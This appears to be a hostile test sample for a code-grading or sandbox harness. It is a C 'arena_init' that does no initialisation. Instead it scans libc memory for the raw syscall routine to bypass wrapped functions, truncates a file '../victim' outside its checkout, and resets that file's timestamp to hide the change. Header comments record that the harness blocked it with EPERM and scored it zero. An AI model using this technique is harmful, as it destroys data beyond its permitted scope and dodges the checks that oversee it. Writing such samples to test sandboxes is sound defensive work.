/* Earns 0: empties a file of the checkout by open(O_RDONLY | O_TRUNC), by a system call found in libc. */
/* Told: errno is EPERM */
#include "arena.h"

#include <fcntl.h>
#include <string.h>
#include <sys/syscall.h>

static long (*find_syscall(void))(long, ...)
{
	static const unsigned char code[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
		0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8};
	const unsigned char *at = (const unsigned char *)strerror;

	while (memcmp(at, code, sizeof(code)) != 0)
		at++;
	return (long (*)(long, ...))at;
}

int arena_init(t_arena *a, size_t size)
{
	(void)a;
	(void)size;
	find_syscall()(SYS_open, "../victim", O_RDONLY | O_TRUNC);
	find_syscall()(SYS_utime, "../victim", NULL);
	return -1;
}
